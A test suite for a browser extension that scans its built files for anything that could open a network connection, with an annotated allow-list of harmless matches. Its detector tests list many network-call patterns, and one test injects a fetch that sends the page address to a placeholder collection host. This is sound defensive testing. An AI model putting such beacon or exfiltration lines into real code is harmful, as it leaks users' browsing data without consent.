import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { type Reach, reachesOf } from './reach.ts';
import { filesOf, TARGETS } from './targets.ts';

/** A place in the built files that may look as if it reached out, and why it does not. */
interface Allowed {
  /** In which files; all where absent. */
  file?: RegExp;
  what: RegExp;
  code?: RegExp;
  /** In how many places of a package; any number where absent. */
  times?: number;
  why: string;
}

/** The one request that is made from a page. */
const ATTACHMENT: Allowed = {
  file: /^content-scripts\/page\.js$/,
  what: /^fetch$/,
  code: /^fetch\(\w+,\{signal:AbortSignal\.timeout\(\w+\)\}\)$/,
  why: 'src/page/attachment.ts gets a file that the page links to once the user has pressed "Read this attachment"; a GET, which carries nothing of what was read',
};

const PDF = /\/pdf[-.][^/]*$/;
const ALLOWED: readonly Allowed[] = [
  ATTACHMENT,
  {
    what: /^address$/,
    code: /http:\/\/(?:www\.w3\.org|schemas\.(?:openxmlformats|microsoft|zwobble)\.(?:org|com)|purl\.(?:oclc\.org\/ooxml|org\/dc)|www\.wps\.cn\/officeDocument|www\.ibm\.com\/data\/dtd|www\.xfa\.org\/schema|ns\.adobe\.com|json-schema\.org|www\.apache\.org\/licenses)\//,
    why: 'names an XML or JSON vocabulary, which is never opened',
  },
  {
    what: /^address$/,
    code: /https:\/\/(?:json-schema\.org\/|answers\.microsoft\.com\/en-us\/msoffice\/|github\.com\/zloirock\/core-js|react\.dev\/errors\/|rolldown\.rs\/|tinyurl\.com\/y2uuvskb)|http:\/\/bit\.ly\/2kdckMn|stuk\.github\.io\/jszip\//,
    why: 'names a vocabulary, a licence or a page of help in the words of an error',
  },
  {
    file: PDF,
    what: /^address$/,
    code: /^https?:\/\/(?:$|a$|a[/@#]|x$|foo\.bar|example\.com|тест)/,
    why: "core-js and pdf.js try the browser's URL with it; nothing opens it",
  },
  {
    file: /\/pdf-[^/]*$/,
    what: /^(?:fetch|XMLHttpRequest|FontFace|Image|import)$/,
    why: 'pdf.js can load a file from an address; src/sources/pdf.ts gives it bytes and no address but that of its own worker',
  },
  { file: /\/pdf-[^/]*$/, what: /^Worker$/, why: "pdf.js's own worker, from this package" },
  {
    file: /\/pdf\.worker[^/]*$/,
    what: /^(?:fetch|XMLHttpRequest|Image|import)$/,
    why: "pdf.js's tables of objects have a method of the name, and its fonts and decoders can come from an address, of which it is given none",
  },
  { what: /^address$/, code: /http:\/\/\[/, why: 'zod has the browser check an IPv6 address with it' },
  {
    what: /^address$/,
    code: /https:\/\/www\.sor\.org/,
    why: "the publisher's address in the guide's acknowledgement; a link at most",
  },
  {
    what: /^address$/,
    code: /https:\/\/(?:apply\.jobs\.scot\.nhs\.uk|jobs\.hscni\.net)/,
    why: "a nation's job board, as a site that a policy may have reviewed; nothing asks it for anything",
  },
  {
    file: /^chunks\/options-/,
    what: /^address$/,
    code: /^https:\/\/www\.jobs\.nhs\.uk$/,
    why: 'the site that the options list as read by itself, to be switched off',
  },
  { what: /^address$/, code: /https:\/\/jobs\.example\.org/, why: 'an example in the words of the options page' },
  {
    file: /^content-scripts\/page\.js$/,
    what: /^address$/,
    code: /https:\/\/(?:www|beta)\.jobs\.nhs\.uk\/candidate\/jobadvert\/\*/,
    why: 'the pages on which the content script runs by itself',
  },
  {
    what: /^address$/,
    code: /^https:\/\/$/,
    why: 'names no address: put before one that the user typed without it, and in the words of an error',
  },
  { what: /^address$/, code: /^ftp:\/\/ pattern matching/, why: "WXT's words for a pattern that it does not know" },
  {
    file: /^(?:chunks|assets)\//,
    what: /^element (?:link|script|img)$/,
    why: "React, pdf.js, mammoth and Vite's loader make such elements; in the extension's own pages the policy of the manifest lets them load from the package only",
  },
  {
    file: /\/many-worker-/,
    what: /^import$/,
    code: /^import\(\s*(?:\/\*.*?\*\/\s*)?\w+\)$/,
    why: 'the half of pdf.js that is in a file of its own, from this package',
  },
  {
    file: /^chunks\/audit-/,
    what: /^element iframe$/,
    why: 'the frame that a file to compare is read in; it has no address, and the policy of the manifest lets frames load nothing',
  },
  {
    file: PDF,
    what: /^(?:set (?:href|src|action|manifest)|submit)$/,
    why: 'pdf.js shows pictures and links of a file on a page, which nothing here has it do, sends work to a graphics card (`queue.submit`), and its tables of objects have properties of these names',
  },
  {
    file: /\/many-worker-/,
    what: /^set (?:href|ACTION)$/,
    code: /^this\.href=|^\w+\.ACTION=`action`$/,
    why: "core-js's own URL, which is text, and parse5's list of the names of attributes; the worker has no page",
  },
  {
    what: /^(?:set (?:action|src|srcset|href)|dns-prefetch|preconnect)$/,
    code: /^\w+\.(?:action=(?:null|\w+)|(?:src|srcset|href)=\w+\.(?:src|srcSet|href))$|^\w+\(`(?:dns-prefetch|preconnect)`,\w+,(?:null|\w+)\)$|^`(?:dns-prefetch|preconnect)`$/,
    why: "React's way to load ahead and to send forms, for whoever asks it to; nothing here does, and the policy of the manifest would refuse",
  },
  {
    what: /^set xlink:href$/,
    code: /^\w+\.setAttributeNS\(`http:\/\/www\.w3\.org\/1999\/xlink`,`xlink:href`,\w+\)$/,
    why: "React's attribute of pictures drawn as SVG, of which none here has an address",
  },
  {
    what: /^navigation\.navigate$/,
    code: /history:`replace`/,
    why: 'React ends a transition of an address that has changed, at the address where the page is already',
  },
  {
    what: /^set href$/,
    code: /^\w+\.href=\w+$/,
    file: /^chunks\//,
    times: 1,
    why: 'src/ui/download.ts hands a file over to be saved, by an address that the browser has made for it',
  },
  {
    file: /^chunks\/excel-/,
    what: /^set location$/,
    why: "where in a workbook a link leads, as a property of hucre's",
  },
  {
    file: /^chunks\/audit-/,
    what: /^tabs\.(?:create|update)$/,
    times: 2,
    why: 'src/audit/browser-attachments.ts shows the advert that a file is attached to, at the press of a button',
  },
  {
    file: /^chunks\/options-/,
    what: /^tabs\.create$/,
    times: 1,
    why: "opens the browser's own page of keys, at the press of a button",
  },
  {
    what: /^tabs\.create$/,
    code: /^\w+\.tabs\.create\(\{url:\w+,windowId:\w+,index:\w+\+1,openerTabId:\w+\.tabId\}\)$/,
    why: "src/panel/browser-link.ts opens the extension's own page for files",
  },
  {
    what: /^Worker$/,
    code: /^new Worker\(new URL\(`\/assets\/[\w.-]+`,``\+self\.location\.href\)/,
    why: 'a worker of this package',
  },
  {
    what: /^fetch$/,
    code: /^fetch\(\w+,\{method:`HEAD`\}\)$/,
    why: 'the panel asks whether a page of its own package is there',
  },
  { what: /^fetch$/, code: /^fetch\(\w+\.href,\w+\)$/, why: "Vite's loader of the package's own parts" },
  {
    file: /\/lib-/,
    what: /^(?:Image|importScripts)$/,
    why: "mammoth's kind of part called Image, and a test for being in a worker",
  },
];

const isAllowed = ({ file, what, code }: Reach) => {
  return (rule: Allowed) => (rule.file?.test(file) ?? true) && rule.what.test(what) && (rule.code?.test(code) ?? true);
};

const breaches = (reaches: Reach[]) => reaches.filter((reach) => !ALLOWED.some(isAllowed(reach)));

/** The same file in several packages is read once. */
const seen = new Map<string, Reach[]>();
function reachesIn(files: Map<string, Buffer>): Reach[] {
  return [...files].flatMap(([file, bytes]) => {
    const key = `${file} ${createHash('sha256').update(bytes).digest('hex')}`;
    const known = seen.get(key) ?? reachesOf(file, bytes.toString('utf8'));
    seen.set(key, known);
    return known;
  });
}

describe('the built packages', () => {
  it.each(TARGETS)('of %s reach nothing beyond themselves', (target) => {
    const files = filesOf(target);
    expect([...files.keys()]).toEqual(
      expect.arrayContaining(['background.js', 'content-scripts/page.js', 'sidepanel.html']),
    );
    expect(breaches(reachesIn(files))).toEqual([]);
  });

  it('make use of every exception', () => {
    const all = TARGETS.flatMap((target) => reachesIn(filesOf(target)));
    const idle = ALLOWED.filter((rule) => !all.some((reach) => isAllowed(reach)(rule)));
    expect(idle.map(({ why }) => why)).toEqual([]);
  });

  it.each(TARGETS)('of %s make use of an exception as often as it says, and not once more', (target) => {
    const reaches = reachesIn(filesOf(target));
    for (const rule of ALLOWED.filter(({ times }) => times !== undefined))
      expect(reaches.filter((reach) => isAllowed(reach)(rule)).length, rule.why).toBe(rule.times);
  });

  // A page's own policy rules there, not ours.
  it.each(TARGETS)(
    'of %s put nothing into pages that could open a connection, but for the one fetch of an attachment',
    (target) => {
      const files = filesOf(target);
      const inPages = [...files].filter(([file]) => /^(?:content-scripts\/.*|drafts\.js)$/.test(file));
      expect(inPages.map(([file]) => file).toSorted()).toEqual([
        'content-scripts/page.css',
        'content-scripts/page.js',
        'drafts.js',
      ]);
      const reaches = reachesIn(new Map(inPages)).filter(({ what }) => what !== 'address');
      expect(reaches).toEqual([expect.objectContaining({ file: 'content-scripts/page.js', what: 'fetch' })]);
      expect(reaches.every((reach) => isAllowed(reach)(ATTACHMENT))).toBe(true);
    },
  );

  it('hold the same in Chrome and Edge', () => {
    const hashes = (target: 'chrome' | 'edge') =>
      [...filesOf(target)]
        .map(([file, bytes]) => `${file} ${createHash('sha256').update(bytes).digest('hex')}`)
        .toSorted();
    expect(hashes('edge')).toEqual(hashes('chrome'));
  });
});

describe('the check', () => {
  it.each([
    ['fetch', 'background.js', 'fetch("/x")', 'fetch'],
    ['fetch of a window', 'background.js', 'const f = self.fetch; f(u)', 'fetch'],
    ['fetch by a name in brackets', 'background.js', 'globalThis["fetch"](u)', 'fetch'],
    ['fetch by a template in brackets', 'background.js', 'globalThis[`fetch`](u)', 'fetch'],
    ['fetch taken apart', 'background.js', 'const { fetch: send } = self;', 'fetch'],
    ['fetch handed on', 'chunks/panel-x.js', 'load({ by: fetch })', 'fetch'],
    ['XMLHttpRequest', 'drafts.js', 'new XMLHttpRequest()', 'XMLHttpRequest'],
    ['WebSocket', 'background.js', 'new WebSocket(u)', 'WebSocket'],
    ['EventSource', 'background.js', 'new EventSource(u)', 'EventSource'],
    ['a beacon', 'content-scripts/page.js', 'navigator.sendBeacon(u, d)', 'sendBeacon'],
    ['WebRTC', 'background.js', 'new RTCPeerConnection()', 'RTCPeerConnection'],
    ['an import from elsewhere', 'background.js', 'import("https://cdn.example/x.js")', 'import'],
    ['an import of who knows what', 'background.js', 'import(x)', 'import'],
    ['a static import from elsewhere', 'chunks/a.js', 'import x from "https://cdn.example/x.js"', 'import'],
    ['a script from elsewhere', 'background.js', 'document.createElement("script")', 'element script'],
    ['a picture as a beacon', 'content-scripts/page.js', 'new Image().src = u', 'Image'],
    ['a worker from elsewhere', 'background.js', 'new Worker(u)', 'Worker'],
    ['the page led away', 'content-scripts/page.js', 'location = u', 'set location'],
    ['the page led away by its href', 'content-scripts/page.js', 'window.location.href = u', 'set href'],
    ['the page led away by a name in brackets', 'drafts.js', 'document["location"] = u', 'set location'],
    ['the page led away by a call', 'background.js', 'location.assign(u)', 'location.assign'],
    ['the page put in place of another', 'background.js', 'document.location?.replace(u)', 'location.replace'],
    ['the page led away by its history', 'background.js', 'navigation.navigate(u)', 'navigation.navigate'],
    ['a window', 'content-scripts/page.js', 'window.open(u)', 'window.open'],
    ['a window of a view', 'content-scripts/page.js', 'document.defaultView.open(u)', 'defaultView.open'],
    ['a window by its bare name', 'background.js', 'open(u)', 'open'],
    ['a form that is sent', 'content-scripts/page.js', 'form.submit()', 'submit'],
    ['a form that is sent as if by a click', 'drafts.js', 'form.requestSubmit()', 'requestSubmit'],
    ['a form that is sent elsewhere', 'content-scripts/page.js', 'form.action = u', 'set action'],
    ['a button that sends elsewhere', 'content-scripts/page.js', 'button.formAction = u', 'set formAction'],
    ['a link that tells', 'content-scripts/page.js', 'a.ping = u', 'set ping'],
    ['a link that tells, in React', 'sidepanel.js', 'jsx("a", { ping: u })', 'set ping'],
    ['a link by its attribute', 'content-scripts/page.js', 'a.setAttribute("href", u)', 'set href'],
    ['a picture by its attribute', 'content-scripts/page.js', 'i.setAttributeNS(null, "srcset", u)', 'set srcset'],
    ['a picture that is there', 'content-scripts/page.js', 'i.src = u', 'set src'],
    ['a connection ahead of time', 'chunks/a.js', 'link.rel = "preconnect"', 'preconnect'],
    ['a page ahead of time', 'chunks/a.js', 'hint({ rel: `prefetch` })', 'prefetch'],
    ['a tab', 'background.js', 'browser.tabs.create({ url: u })', 'tabs.create'],
    ['a tab led elsewhere', 'background.js', 'chrome.tabs.update(id, { url: u })', 'tabs.update'],
    ['a window of the browser', 'background.js', 'chrome.windows.create({ url: u })', 'windows.create'],
    ['a file from elsewhere', 'background.js', 'chrome.downloads.download({ url: u })', 'downloads.download'],
    ['a page for the farewell', 'background.js', 'chrome.runtime.setUninstallURL(u)', 'setUninstallURL'],
    ['a program of the machine', 'background.js', 'chrome.runtime.sendNativeMessage("x", d)', 'sendNativeMessage'],
    ['an address', 'background.js', 'const u = "https://collect.example/"', 'address'],
    ['an address in a template', 'background.js', 'const u = `wss://$' + '{host}.example`', 'address'],
    ['an address without its scheme', 'background.js', 'const u = "//collect.example/"', 'address'],
    ['a script in markup', 'x.html', '<script src="https://cdn.example/x.js"></script>', 'address'],
    ['a script without scheme in markup', 'x.html', '<script src=//cdn.example/x.js></script>', 'address'],
    ['code in markup', 'x.html', '<script>go()</script>', 'inline script'],
    ['a handler in markup', 'x.html', '<body onload="go()">', 'inline script'],
    ['a link that tells, in markup', 'x.html', '<a href="/x" ping="/y">', 'ping'],
    ['a connection ahead of time, in markup', 'x.html', '<link rel="preconnect" href="/x">', 'preconnect'],
    ['a page that leads on', 'x.html', '<meta http-equiv="refresh" content="0;url=//x.example">', 'refresh'],
    ['a form, in markup', 'x.html', '<form action="https://collect.example/">', 'address'],
    [
      'a picture of a set in a style sheet',
      'a.css',
      'a{background:image-set("https://cdn.example/x.png" 1x)}',
      'address',
    ],
    ['a style sheet from elsewhere', 'a.css', '@import "https://cdn.example/x.css";', 'address'],
    ['a picture in a style sheet', 'a.css', 'a{background:url(https://cdn.example/x.png)}', 'address'],
  ])('fires at %s', (_what, file, source, what) => {
    expect(breaches(reachesOf(file, source)).map((reach) => reach.what)).toContain(what);
  });

  it.each([
    ['a word of the vocabulary', 'background.js', 'const verbs = ["fetch", "bring"];'],
    ['a method of the name', 'background.js', 'class Cache { fetch(key) { return key; } }'],
    [
      'a property that leads nowhere',
      'background.js',
      'const place = { location: x }; if (e.href === f.href) g(e.src);',
    ],
    ['a list that is opened', 'background.js', 'indexedDB.open("x"); dialog.open = true;'],
    ['a word that is replaced', 'background.js', 'text.replace(a, b); Object.assign(a, b); set.update(1);'],
    ['an attribute of no address', 'chunks/a.js', 'e.setAttribute("class", "href")'],
    ['a comment', 'background.js', '// https://example.org/ fetch()\n1;'],
    ['a part of the package', 'chunks/a.js', 'import{a}from"./b.js";import(`./c.js`)'],
    ['own parts in markup', 'x.html', '<script type="module" src="/chunks/a.js"></script>'],
    ['a picture within a style sheet', 'a.css', 'a{background:url(data:image/png;base64,AA)}'],
  ])('is quiet at %s', (_what, file, source) => {
    expect(breaches(reachesOf(file, source))).toEqual([]);
  });

  it('would refuse a package with one line more', () => {
    const files = filesOf('chrome');
    const background = files.get('background.js')?.toString('utf8') ?? '';
    files.set('background.js', Buffer.from(`${background};fetch("https://collect.example/?"+location.href)`));
    expect(breaches(reachesIn(files)).map(({ file, what }) => `${file}: ${what}`)).toEqual([
      'background.js: fetch',
      'background.js: address',
    ]);
  });
});
